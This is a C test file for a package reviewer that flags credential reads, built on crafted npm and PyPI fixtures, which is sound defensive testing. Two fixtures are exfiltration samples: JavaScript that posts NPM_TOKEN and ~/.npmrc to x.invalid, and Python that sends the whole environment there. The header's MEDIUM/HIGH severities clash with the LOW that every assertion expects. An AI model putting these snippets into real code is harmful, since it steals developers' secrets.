/* test_review_credentials.c: secret environment variables and credential
 * files are MEDIUM, HIGH when the same file calls the network; NODE_ENV
 * and DEBUG are not secrets; the real packages stay at LOW. */
#include "review_fixture.h"
#include "tap.h"

int main(void)
{
	fixture f;
	review_findings fs;
	const char *steal[] = {
		"index.js", "const t = process.env.NPM_TOKEN;\n"
		            "const k = require('fs').readFileSync(os.homedir() + '/.npmrc');\n"
		            "require('https').request({host: 'x.invalid', method: 'POST'}).end(t + k);\n", NULL };
	fixture_crafted(&f, "npm", "x", steal);
	fixture_review(&fs, &review_credentials, &f);
	const review_finding *x = fixture_find(&fs, "secret-env");
	/* Whether the secret is sent is the flow reviewer's decision
	 * (test_review_flow.c); this reviewer reports the reads. */
	ok(x && x->severity == SEV_LOW && x->line == 1 && strstr(x->message, "NPM_TOKEN") &&
	   strstr(x->message, "network"),
	   "NPM_TOKEN read in a file that posts to the network is LOW evidence, the network noted (%s)", x ? x->message : "-");
	x = fixture_find(&fs, "credential-file");
	ok(x && x->severity == SEV_LOW, "~/.npmrc read (homedir on the line) is a credential-file read, LOW");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *local[] = { "a.js", "const t = process.env['GITHUB_TOKEN'];\nif (process.env.NODE_ENV) {}\n", NULL };
	fixture_crafted(&f, "npm", "x", local);
	fixture_review(&fs, &review_credentials, &f);
	ok(fs.n == 1 && fs.items[0].severity == SEV_LOW, "a secret read without network is LOW; NODE_ENV is nothing");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *py[] = { "x/__init__.py", "import os, json, urllib.request\n"
	                     "urllib.request.urlopen('https://x.invalid', json.dumps(os.environ).encode())\n", NULL };
	fixture_crafted(&f, "pypi", "x", py);
	fixture_review(&fs, &review_credentials, &f);
	x = fixture_find(&fs, "env-dump");
	ok(x && x->severity == SEV_LOW, "Python: the whole environment in a file with network calls is LOW here (flow decides)");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	const char *mention[] = { "pip/cli.py", "HELP = 'credentials are read from ~/.pypirc'\n", "a.py",
	                          "import os\nos.environ.get('AWS_EXECUTION_ENV')\n", NULL };
	fixture_crafted(&f, "pypi", "x", mention);
	fixture_review(&fs, &review_credentials, &f);
	x = fixture_find(&fs, "credential-mention");
	ok(x && x->severity == SEV_LOW && !fixture_find(&fs, "credential-file") && !fixture_find(&fs, "secret-env"),
	   "a credential file named, not read, is LOW; AWS_EXECUTION_ENV is not a secret");
	review_findings_dispose(&fs);
	fixture_dispose(&f);

	char who[512] = "";
	ok(fixture_quiet_on_clean(&review_credentials, SEV_LOW, who, sizeof who), "quiet (LOW at most) on the real packages %s", who);
	return tap_done();
}
